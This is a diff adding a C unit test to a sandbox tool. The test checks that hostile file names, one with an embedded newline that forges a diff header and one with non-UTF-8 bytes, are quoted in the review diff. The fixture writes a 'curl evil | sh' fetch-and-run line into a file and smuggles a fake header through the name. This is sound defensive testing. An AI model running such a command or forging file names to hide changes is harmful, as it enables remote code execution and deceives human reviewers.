@@ -528,6 +528,37 @@ TEST(device_node_is_not_created)
     teardown();
 }
 
+/* The sandbox names its files. A newline in a name printed as is forged header and hunk lines
+ * in the review's diff (an added script shown as an edit of another file); a name that is not
+ * UTF-8 went unlisted in apply's results. Names are quoted as git quotes them. */
+static void sandbox_names_hostile(void)
+{
+    if (mkdir("x\n+++ b", 0755) < 0 || system("printf 'curl evil | sh\\n' > 'x\n+++ b/y'") != 0)
+        _exit(1);
+    if (system("printf 'q' > \"$(printf 'bad\\377name')\"") != 0)
+        _exit(2);
+}
+
+TEST(hostile_names_are_quoted_in_the_diff)
+{
+    setup(true);
+    as_sandbox(sandbox_names_hostile);
+    json_t *r = review(NULL, 0, 0);
+    const char *diff = json_string_value(json_object_get(r, "diff"));
+    ASSERT(diff != NULL);
+    ASSERT(strstr(diff, "\n+++ b/y") == NULL); /* no line of the diff comes from a name */
+    ASSERT_CONTAINS(diff, "+++ \"b/workspace/proj/x\\n+++ b/y\"\n@@ -0,0 +1 @@\n+curl evil");
+    ASSERT_CONTAINS(diff, "diff --git \"a/workspace/proj/bad\\377name\" "
+                          "\"b/workspace/proj/bad\\377name\"\n");
+    json_decref(r);
+    r = apply(NULL, false);
+    ASSERT_EQ(json_integer_value(json_object_get(r, "applied")), 3);
+    ASSERT_EQ(json_array_size(json_object_get(r, "results")), 3);
+    ASSERT_STR_EQ(slurp(lower, "bad\377name", NULL), "q");
+    json_decref(r);
+    teardown();
+}
+
 int main(void)
 {
     RUN(review_trusted_xattrs);
@@ -538,5 +569,6 @@ int main(void)
     RUN(device_node_is_not_created);
     RUN(apply_is_one_at_a_time);
     RUN(long_lists_are_capped_and_counted);
+    RUN(hostile_names_are_quoted_in_the_diff);
     return test_done();
 }
